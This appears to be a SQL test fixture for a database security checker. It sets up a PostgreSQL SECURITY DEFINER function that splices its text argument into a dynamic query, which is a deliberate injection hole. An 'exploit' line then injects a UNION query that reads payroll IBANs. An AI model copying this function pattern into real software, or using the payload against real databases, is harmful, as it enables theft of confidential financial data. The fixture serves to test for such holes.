-- about: a SECURITY DEFINER function puts its argument into the text of a statement
-- claim: definer-function EXECUTE shop.find_customers(text)
-- seed
CREATE FUNCTION shop.find_customers(condition text) RETURNS SETOF text LANGUAGE plpgsql SECURITY DEFINER
SET search_path = pg_catalog, pg_temp
AS $$ BEGIN RETURN QUERY EXECUTE 'SELECT name FROM shop.customers WHERE name LIKE ''' || condition || ''''; END $$;
ALTER FUNCTION shop.find_customers(text) OWNER TO PREFIXowner;
REVOKE EXECUTE ON FUNCTION shop.find_customers(text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION shop.find_customers(text) TO PREFIXbot, PREFIXclerk;
-- exploit
SELECT found LIKE 'secret%' FROM shop.find_customers('nobody'' UNION ALL SELECT iban FROM hr.payroll --') AS found LIMIT 1;
-- people
SELECT * FROM shop.find_customers('Customer 1%');
